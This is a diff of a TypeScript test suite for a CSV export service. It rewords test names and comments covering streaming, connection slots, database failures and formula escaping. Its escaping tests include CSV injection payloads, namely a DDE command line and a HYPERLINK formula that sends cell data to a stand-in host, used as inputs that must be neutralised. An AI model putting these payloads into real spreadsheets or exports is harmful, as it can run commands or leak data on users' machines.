@@ -34,7 +34,7 @@ beforeAll(async () => {
   origin = await app.app.listen({ host: '127.0.0.1', port: 0 })
   admin = await app.signIn('academy-admin')
   exportCsv = csvExports(database.url)
-  // 12 MB: more than the buffers between PostgreSQL and the proxy take.
+  // 12 MB: more than the buffers between PostgreSQL and the proxy hold.
   await app.client.query(
     `insert into account (area, email, first_name, last_name, status)
      select 'employee', n || '@cro.example', repeat('😀', 2500), n::text, 'active' from generate_series(1, 1200) as n`,
@@ -49,13 +49,13 @@ afterAll(async () => {
   await proxy.close()
 })
 
-/** The rows of a file that is read to its end. It begins with a byte order mark, which readers of texts swallow. */
+/** Returns the rows of a complete file, which begins with a byte order mark. */
 async function rowsOf(file: NodeJS.ReadableStream): Promise<string[][]> {
   const content = (await buffer(file)).toString()
   expect(content[0]).toBe('\uFEFF')
   return readCsv(content.slice(1))
 }
-/** A table of as many rows, a thousand letters each. */
+/** Returns a query for so many rows of a thousand letters each. */
 const long = (rows: number): CsvTable<{ x: string }> => ({
   titles: ['x'],
   query: sql => sql`select repeat('x', 1000) as x from generate_series(1, ${rows}::integer)`,
@@ -67,10 +67,10 @@ const one: CsvTable<{ one: number }> = {
   cells: row => [row.one],
 }
 
-/** Bytes of a file that leave the database while the rest waits (`limitReplies`): more than the first batch of rows. */
+/** Bytes that the proxy forwards before it holds the rest (`limitReplies`): more than the first batch of rows. */
 const beginning = 4_000_000
 
-/** A response of which nothing but its beginning is read. */
+/** Starts an export and reads only the beginning of the response. */
 async function begin(): Promise<IncomingMessage> {
   const request = get(`${origin}${trainingCsvPath}`, { headers: { cookie: admin.cookie } })
   const [response]: IncomingMessage[] = await once(request, 'response')
@@ -90,7 +90,7 @@ const connections = async () => {
 const allFree = () => until('the connections to end', async () => (await connections()).length === 0)
 const errors = () => app.lines.filter(line => JSON.parse(line).level >= 50)
 
-test('rows are written with their titles, in their order, and read back as they are', async () => {
+test('rows are written with their column titles, in order, and read back unchanged', async () => {
   const awkward = ['a "b" c', 'x, y', 'one\ntwo\r\nthree', 'Zoë 😀', '', ' kept '].join('|')
   const table: CsvTable<{ number: number; none: null; at: Date }> = {
     titles: ['First, "and" last', 'number', 'none', 'at'],
@@ -123,7 +123,7 @@ test.each([
   '＠SUM(1)',
   `=cmd|' /C calc'!A0`,
   '=HYPERLINK("http://evil.example?"&A1,"x")',
-])('%j stands in its cell as text', value => {
+])('%j is written as text', value => {
   expect(cell(value)).toBe(`'${value}`)
 })
 
@@ -132,7 +132,7 @@ test.each([
   ['Ada;=1+1', `'Ada;'=1+1`],
   ['Ada\n\t-1', `'Ada\n'\t'-1`],
   ['Ada\r@x', `'Ada\r'@x`],
-])('%j is text for a program that takes other signs for the end of a cell', (value, written) => {
+])('%j is written as text for programs with another cell separator', (value, written) => {
   expect(cell(value)).toBe(written)
 })
 
@@ -151,11 +151,11 @@ test.each([
   '1',
   '  led by spaces',
   '😀',
-])('%j is left as it is', value => {
+])('%j is written unchanged', value => {
   expect(cell(value)).toBe(value)
 })
 
-test('no text begins a formula, and what was written is found again', { tags: ['soak'] }, () => {
+test('no cell starts a formula, and every text can be read back', { tags: ['soak'] }, () => {
   const signs = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', 'a', 'é', '😀', '＝')
   fc.assert(
     fc.property(fc.array(fc.string({ unit: signs, minLength: 1, maxLength: 8 }), { maxLength: 3 }), texts => {
@@ -180,14 +180,14 @@ test('two exports run at once; a third is refused with Retry-After, and not reco
   expect(await recorded()).toEqual(before)
   proxy.release()
   expect(await rowsOf(first)).toHaveLength(1201)
-  // The one that is done has made room.
+  // The finished export has freed its slot.
   const again = await begin()
   expect(await rowsOf(second)).toHaveLength(1201)
   expect(await rowsOf(again)).toHaveLength(1201)
   await allFree()
 })
 
-test('a client that disconnects frees its connection and its place', async () => {
+test('a client that disconnects frees its connection and its slot', async () => {
   for (const response of [await begin(), await begin()]) response.destroy()
   await allFree()
   expect(await rowsOf(await begin())).toHaveLength(1201)
@@ -201,7 +201,7 @@ test('a client that disconnects frees its connection and its place', async () =>
 })
 
 test.each(['ends the connection', 'cannot be reached any more'])(
-  'when the database %s midway, the file breaks off rather than seem whole',
+  'when the database %s during an export, the response is aborted',
   async how => {
     proxy.limitReplies(beginning)
     const response = await begin()
@@ -218,10 +218,10 @@ test.each(['ends the connection', 'cannot be reached any more'])(
   },
 )
 
-test('a file whose rows stop arriving fails; one whose reader is slow does not', async () => {
+test('an export whose rows stop arriving fails; an export with a slow reader does not', async () => {
   await using hole = await DatabaseProxy.before(app.databaseUrl)
   const exportThere = (silence: number) => csvExports(hole.through(app.databaseUrl), { silence })
-  // Longer than a busy machine may be silent by itself.
+  // Longer than a pause of a busy machine.
   const slow = await exportThere(1500)(long(12_000))
   await wait(1800)
   expect(await rowsOf(slow)).toHaveLength(12001)
@@ -230,7 +230,7 @@ test('a file whose rows stop arriving fails; one whose reader is slow does not',
   await expect(rowsOf(lost)).rejects.toThrow(DatabaseUnavailable)
 })
 
-test('a database that does not respond occupies no place for good', async () => {
+test('a database that does not respond frees the slot of the export', async () => {
   const silent = new URL(app.databaseUrl)
   silent.port = String(proxy.port)
   silent.hostname = '127.0.0.1'
@@ -243,7 +243,7 @@ test('a database that does not respond occupies no place for good', async () => 
   expect(await rowsOf(await exportThere(one))).toEqual([['one'], ['1']])
 })
 
-test('a statement that fails is refused before anything of the file is sent', async () => {
+test('a failing statement is answered with an error before the file begins', async () => {
   const tables: [CsvTable<object>['query'], string][] = [
     [sql => sql`select 1 / ${0}::integer`, 'division by zero'],
     [sql => sql`select ${'a\0'}::text`, 'invalid byte sequence'],
@@ -256,7 +256,7 @@ test('a statement that fails is refused before anything of the file is sent', as
   expect(await rowsOf(await exportCsv(one))).toEqual([['one'], ['1']])
 })
 
-test('a statement that fails after its first rows fails the file', async () => {
+test('a statement that fails after its first rows aborts the file', async () => {
   const file = await exportCsv({
     titles: ['quotient'],
     query: sql => sql<{ quotient: number }[]>`
@@ -266,7 +266,7 @@ test('a statement that fails after its first rows fails the file', async () => {
   await expect(buffer(file)).rejects.toThrow(DatabaseUnavailable)
 })
 
-test('a file whose audit entry cannot be written is not sent, and occupies no place for good', async () => {
+test('an export whose audit entry cannot be written is not sent, and frees its slot', async () => {
   await app.client.query(`
     create function refuse() returns trigger language plpgsql as $$ begin raise 'refused'; end $$;
     create trigger not_now before insert on audit_entry for each row execute function refuse()`)
